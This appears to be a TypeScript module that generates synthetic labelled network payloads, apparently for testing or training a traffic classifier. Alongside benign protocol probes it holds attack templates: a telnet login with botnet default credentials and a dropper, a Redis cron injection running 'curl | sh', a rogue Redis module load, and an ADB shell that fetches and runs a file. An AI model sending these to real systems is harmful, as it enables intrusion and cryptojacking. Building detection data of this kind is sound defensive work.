// Payloads of many kinds with what differs from copy to copy really differing: hosts, ports, names, tokens, identifiers, agents,
// dates, lengths. Each kind is one attack (or one question) a person would call by one name. Made up here; nothing is real.

import { webKinds } from './labelled-requests.ts';
import { type Chance, dropper, fileName, hex, host, kind, type PayloadKind, url } from './payload-parts.ts';

const tpkt = (body: Buffer): Buffer => Buffer.concat([Buffer.from([3, 0, 0, body.length + 4]), body]);
const smb1 = (command: number, c: Chance, body: Buffer): Buffer => {
  const message = Buffer.concat([
    hex('ff534d42'),
    Buffer.from([command]),
    Buffer.alloc(4),
    hex('1853c0'),
    Buffer.alloc(12),
    c.bytes(2),
    hex('fffe'),
    c.bytes(2),
    c.bytes(2),
    body,
  ]);
  return Buffer.concat([Buffer.from([0, 0, message.length >> 8, message.length & 255]), message]);
};
const dns = (c: Chance, name: string, type: number, klass = 1): Buffer =>
  Buffer.concat([
    c.bytes(2),
    hex('0100 0001 0000 0000 0000'),
    ...name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])),
    Buffer.from([0, type >> 8, type & 255, klass >> 8, klass & 255]),
  ]);
const hello = (c: Chance, suites: string, extensions: string): Buffer => {
  const body = Buffer.concat([
    hex('0303'),
    c.bytes(32),
    Buffer.from([32]),
    c.bytes(32),
    hex(suites),
    hex('0100'),
    hex(extensions),
  ]);
  const message = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 255]), body]);
  return Buffer.concat([hex('160301'), Buffer.from([message.length >> 8, message.length & 255]), message]);
};
const bulk = (...words: string[]): string =>
  `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;
const adb = (command: string, c: Chance, data: string): Buffer => {
  const head = Buffer.alloc(24);
  head.write(command);
  head.writeUInt32LE(command === 'CNXN' ? 0x01000000 : 1 + c.number(200), 4);
  head.writeUInt32LE(data.length, 12);
  head.writeUInt32LE(
    [...data].reduce((sum, one) => sum + one.charCodeAt(0), 0),
    16,
  );
  head.writeUInt32LE((head.readUInt32LE(0) ^ 0xffffffff) >>> 0, 20);
  return Buffer.concat([head, Buffer.from(data)]);
};

const otherKinds: readonly PayloadKind[] = [
  kind(
    'telnet login',
    (c) =>
      `${c.pick(['root', 'admin', 'user', 'default', 'guest'])}\r\n${c.pick(['xc3511', 'vizxv', 'admin', '888888', c.token(5, 8)])}\r\n`,
  ),
  kind(
    'telnet dropper',
    (c) => `${c.pick(['root', 'admin'])}\r\n${c.token(5, 8)}\r\nenable\r\nsystem\r\nshell\r\nsh\r\n${dropper(c)}\r\n`,
  ),
  kind(
    'telnet busybox probe',
    (c) =>
      `${c.pick(['root', 'admin'])}\r\n${c.token(5, 8)}\r\nenable\r\nsystem\r\nshell\r\nsh\r\ncat /proc/mounts; /bin/busybox ${c.word('ABCDEFGHIJKLMNOPQRSTUVWXYZ', 5)}\r\n`,
  ),
  kind('ftp login', (c) => `USER ${c.pick(['anonymous', 'admin', 'ftp', c.token(5)])}\r\nPASS ${c.token(5, 12)}\r\nQUIT\r\n`),
  kind(
    'smtp login',
    (c) =>
      `EHLO ${c.token(8)}\r\nAUTH LOGIN\r\n${Buffer.from(c.token(6)).toString('base64')}\r\n${Buffer.from(c.token(9)).toString('base64')}\r\n`,
  ),
  kind(
    'smtp relay test',
    (c) => `EHLO ${c.token(8)}\r\nMAIL FROM:<${c.token(6)}@example.org>\r\nRCPT TO:<${c.token(6)}@example.net>\r\nDATA\r\n`,
  ),
  kind('redis information', () => bulk('INFO')),
  kind(
    'redis cron',
    (c) =>
      bulk('CONFIG', 'SET', 'dir', '/var/spool/cron') +
      bulk('SET', c.token(6), `\n\n*/${c.digits(1)} * * * * curl ${url(c)} | sh\n\n`) +
      bulk('SAVE'),
  ),
  kind(
    'redis module',
    (c) =>
      bulk('SLAVEOF', c.address(), c.digits(4)) +
      bulk('CONFIG', 'SET', 'dbfilename', `${c.token(6)}.so`) +
      bulk('MODULE', 'LOAD', `./${c.token(6)}.so`),
  ),
  kind('memcached stats', () => 'stats\r\n'),
  kind('t3', (c) => `t3 12.${c.digits(1)}.${c.digits(1)}\nAS:2048\nHL:19\n\n`),
  kind(
    'miner login',
    (c) =>
      `{"id":${c.digits(1)},"jsonrpc":"2.0","method":"login","params":{"login":"${c.token(90, 95)}","pass":"x","agent":"XMRig/6.${c.digits(2)}.0"}}\n`,
  ),
  kind('rtsp options', (c) => `OPTIONS rtsp://${host(c)}/ RTSP/1.0\r\nCSeq: ${c.digits(1, 3)}\r\n\r\n`),
  kind(
    'rtsp describe',
    (c) =>
      `DESCRIBE rtsp://${host(c)}/live/ch${c.digits(1)} RTSP/1.0\r\nCSeq: ${c.digits(1, 3)}\r\nAuthorization: Basic ${Buffer.from(c.token(9)).toString('base64')}\r\n\r\n`,
  ),
  kind(
    'sip options',
    (c) =>
      `OPTIONS sip:100@${c.address()} SIP/2.0\r\nVia: SIP/2.0/UDP ${host(c)};branch=z9hG4bK-${c.digits(10)};rport\r\nFrom: "sipvicious"<sip:100@1.1.1.1>;tag=${c.hex(30)}\r\nTo: "sipvicious"<sip:100@1.1.1.1>\r\nCall-ID: ${c.digits(24)}\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`,
  ),
  kind(
    'sip register',
    (c) =>
      `REGISTER sip:${c.address()} SIP/2.0\r\nVia: SIP/2.0/UDP ${host(c)};branch=z9hG4bK${c.hex(12)}\r\nFrom: <sip:${c.digits(3, 5)}@${c.address()}>;tag=${c.hex(8)}\r\nTo: <sip:${c.digits(3, 5)}@${c.address()}>\r\nCall-ID: ${c.hex(20)}\r\nCSeq: ${c.digits(1)} REGISTER\r\nAuthorization: Digest username="${c.digits(3, 5)}", nonce="${c.hex(8)}", response="${c.hex(32)}"\r\nContent-Length: 0\r\n\r\n`,
  ),
  kind('ssh go', (c) =>
    Buffer.concat([
      Buffer.from('SSH-2.0-Go\r\n'),
      hex('000000ac 06 14'),
      c.bytes(16),
      hex('00000011'),
      Buffer.from('curve25519-sha256'),
      hex('0000000b'),
      Buffer.from('ssh-ed25519'),
      hex('0000000a'),
      Buffer.from('aes128-ctr'),
      hex('0000000a'),
      Buffer.from('aes128-ctr'),
      hex('0000000d'),
      Buffer.from('hmac-sha2-256'),
      hex('0000000d'),
      Buffer.from('hmac-sha2-256'),
      hex('00000004'),
      Buffer.from('none'),
      hex('00000004'),
      Buffer.from('none'),
      Buffer.alloc(13),
      c.bytes(6),
    ]),
  ),
  kind('ssh libssh', (c) => `SSH-2.0-libssh_0.9.6\r\n${c.pick(['', ''])}`),
  kind('tls one', (c) => hello(c, '0006 c02f c030 009c', '0012 000a 0006 0004 001d 0017 000d 0004 0002 0403')),
  kind('tls two', (c) => hello(c, '000a 1301 1302 c02f 009c 0035', '000f 002b 0003 02 0304 000d 0004 0002 0804')),
  kind('rdp cookie', (c) => {
    const cookie = Buffer.from(`Cookie: mstshash=${c.pick(['hello', 'Administr', c.token(5, 8)])}\r\n`);
    return tpkt(Buffer.concat([Buffer.from([14 + cookie.length, 0xe0, 0, 0, 0, 0, 0]), cookie, hex('0100080003000000')]));
  }),
  kind('rdp negotiation alone', () => tpkt(hex('0ee0000000000001000800 0b000000'))),
  kind('smb1 negotiation', (c) =>
    smb1(0x72, c, Buffer.concat([hex('00 2f00'), Buffer.from('\x02NT LM 0.12\0\x02SMB 2.002\0\x02SMB 2.???\0', 'latin1')])),
  ),
  kind('smb1 transaction', (c) =>
    smb1(0x32, c, Buffer.concat([hex('0f0c000000010000000000000000000000 0c004200 00004e00 01000e00 0d000000'), c.bytes(12)])),
  ),
  kind('smb2 negotiation', (c) =>
    Buffer.concat([
      hex('0000006e fe534d42 4000 0000 00000000 0000 1f00 00000000 00000000'),
      c.bytes(8),
      Buffer.alloc(24),
      hex('2400 0500 0100 0000 7f000000'),
      c.bytes(16),
      Buffer.alloc(8),
      hex('0202 1002 0003 0203 1103'),
    ]),
  ),
  kind('mssql prelogin', (c) =>
    Buffer.concat([
      hex('12 01 002f 0000 01 00 00 001a 0006 01 0020 0001 02 0021 0001 03 0022 0004 04 0026 0001 ff 0900 0000 0000 00 00'),
      c.bytes(4),
      Buffer.from([0]),
    ]),
  ),
  kind('postgres start', (c) =>
    Buffer.concat([
      hex('00000029 00030000'),
      Buffer.from(`user\0${c.pick(['postgres', 'admin', c.token(8)])}\0database\0${c.pick(['postgres', 'template0'])}\0\0`),
    ]),
  ),
  kind('postgres tls request', () => hex('00000008 04d2162f')),
  kind('mongodb hello', (c) =>
    Buffer.concat([
      hex('3a000000'),
      c.bytes(4),
      hex('00000000 d4070000 00000000'),
      Buffer.from('admin.$cmd\0'),
      hex('00000000 ffffffff 13000000 10'),
      Buffer.from('isMaster\0'),
      hex('01000000 00'),
    ]),
  ),
  kind('adb connect', (c) => adb('CNXN', c, 'host::\0')),
  kind('adb miner', (c) =>
    Buffer.concat([
      adb('CNXN', c, 'host::\0'),
      adb(
        'OPEN',
        c,
        `shell:cd /data/local/tmp/; busybox wget ${url(c)} -O -> ${fileName(c)}; sh ${fileName(c)}; rm ${fileName(c)}\0`,
      ),
    ]),
  ),
  kind('dns version', (c) => dns(c, 'version.bind', 16, 3)),
  kind('dns any', (c) => dns(c, 'example.org', 255)),
  kind('dns open resolver test', (c) => dns(c, `${c.hex(8)}.${c.hex(6)}.probe.example`, 1)),
  kind('ntp monlist', () => Buffer.concat([hex('1700032a'), Buffer.alloc(4)])),
  kind('ntp client', (c) => Buffer.concat([hex('e30004fa 00010000 00010000'), Buffer.alloc(28), c.bytes(8)])),
  kind('snmp get', (c) =>
    Buffer.concat([
      hex('3026 020101 0406'),
      Buffer.from('public'),
      hex('a019 0204'),
      c.bytes(4),
      hex('020100 020100 300b 3009 0605 2b06010201 0500'),
    ]),
  ),
  kind(
    'ssdp',
    (c) =>
      `M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: ${c.digits(1)}\r\nST: ssdp:all\r\n\r\n`,
  ),
  kind('coap well known', (c) =>
    Buffer.concat([Buffer.from([0x40, 1]), c.bytes(2), Buffer.from('\xbb.well-known\x04core', 'latin1')]),
  ),
  kind('modbus identification', (c) => Buffer.concat([c.bytes(2), hex('0000 0005 01 2b 0e 01 00')])),
  kind('modbus write', (c) => Buffer.concat([c.bytes(2), hex('0000 0006 01 06'), c.bytes(4)])),
  kind('s7 setup', (c) => tpkt(Buffer.concat([hex('02f080 3201 0000'), c.bytes(2), hex('0008 0000 f000 0001 0001 01e0')]))),
  kind('socks5', () => Buffer.from([5, 1, 0])),
  kind('socks4', (c) => Buffer.concat([Buffer.from([4, 1]), c.bytes(6), Buffer.from([0])])),
  kind('vnc', () => 'RFB 003.008\n'),
  kind('java rmi', (c) =>
    Buffer.concat([
      Buffer.from('JRMI\0\x02K', 'latin1'),
      Buffer.from([0, 13]),
      Buffer.from(c.address().padEnd(13, '0').slice(0, 13)),
      Buffer.from([0, 0, 0, 0]),
    ]),
  ),
  kind('encrypted noise', (c) => c.bytes(64 + c.number(64))),
];

export const payloadKinds: readonly PayloadKind[] = [...webKinds, ...otherKinds];
